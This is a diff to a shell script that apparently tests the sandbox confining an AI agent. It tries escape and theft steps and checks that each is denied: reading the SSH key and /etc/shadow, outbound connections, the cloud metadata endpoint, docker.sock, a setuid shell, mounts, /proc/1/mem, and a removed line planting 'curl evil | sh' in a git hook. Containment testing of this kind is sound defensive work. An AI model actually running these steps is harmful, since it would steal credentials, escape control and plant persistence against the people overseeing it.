@@ -14,7 +14,7 @@ attempt() {
     shift 2
     output=$("$@" 2>&1)
     status=$?
-    output=$(tail -n 1 <<<"$output")
+    output=$(sed '/^ /d' <<<"$output" | tail -n 1)
     if [ "$status" = 0 ]; then output="REACHED: $output"; fi
     printf '\t%s\t%s\t%s\t%s\n' "$what" "$status" "${output//$'\t'/ }" "$event"
 }
@@ -29,10 +29,10 @@ say "committed $(git log --oneline | head -n 1)"
 
 printf '\t\n'
 py() { /usr/bin/python3 -c "$@"; }
-tcp() { timeout 5 bash -c 'exec 3<>"/dev/tcp/$0/$1"' "$1" "$2"; }
+tcp() { timeout 5 bash -c 'exec 3<>"/dev/tcp/$1/$2"' bash "$1" "$2"; }
 
-attempt "read your ssh key" "process.exec $real_key" cat "$real_key"
-attempt "read the host's passwords" "process.exec /etc/shadow" cat /etc/shadow
+attempt "read your ssh key" "process.exec /usr/bin/cat" cat "$real_key"
+attempt "read the host's passwords" "process.exec /usr/bin/base64" base64 /etc/shadow
 attempt "connect to 1.1.1.1:443" "net.denied tcp 1.1.1.1 443" tcp 1.1.1.1 443
 attempt "IPv6 to 2606:4700::1111" "net.denied tcp 2606:4700::1111 443" tcp 2606:4700::1111 443
 attempt "resolve example.com" "net.denied 53" \
@@ -42,14 +42,14 @@ s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1", ("9.9.9.9", 53
 attempt "ask for cloud credentials" "net.denied tcp 169.254.169.254 80" tcp 169.254.169.254 80
 attempt "steer docker" "process.exec docker.sock" \
     py 'import socket; socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")'
-attempt "leave a git hook for you" "process.exec pre-commit" sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
-attempt "swap .git for its own" "process.exec .git-old" mv .git .git-old
+attempt "leave a git hook for you" "process.exec /usr/bin/touch" touch .git/hooks/pre-commit
+attempt "swap .git for its own" "process.exec /usr/bin/mv" mv .git .git-old
 attempt "become root" "process.exec setuid" py 'import os; os.setuid(0)'
-attempt "leave a setuid shell" "process.exec u+s" sh -c 'cp /bin/sh ./sh; chmod u+s ./sh || { rm ./sh; false; }'
+attempt "leave a setuid shell" "process.exec /usr/bin/chmod" sh -c 'cp /bin/sh ./sh; chmod u+s ./sh || { rm ./sh; false; }'
 attempt "mount over /etc" "process.exec /usr/bin/mount" mount -t tmpfs none /etc
 attempt "a user namespace" "process.exec /usr/bin/unshare" unshare --user --map-root-user true
-attempt "read pid 1's memory" "process.exec /proc/1/mem" head -c 1 /proc/1/mem
-attempt "find the daemon in /proc" "process.exec agentd-launcher" grep -ls agentd-launcher /proc/[1-9]*/comm
+attempt "read pid 1's memory" "process.exec /usr/bin/head" head -c 1 /proc/1/mem
+attempt "find the daemon in /proc" "process.exec /usr/bin/grep" grep -ls agentd-launcher /proc/[1-9]*/comm
 attempt "fill the memory" "limit.hit memory" py 'x = [bytearray(b"x" * 1048576) for _ in range(1024)]'
 
 # Something that stays when the agent goes. It is the daemon's work to end it.
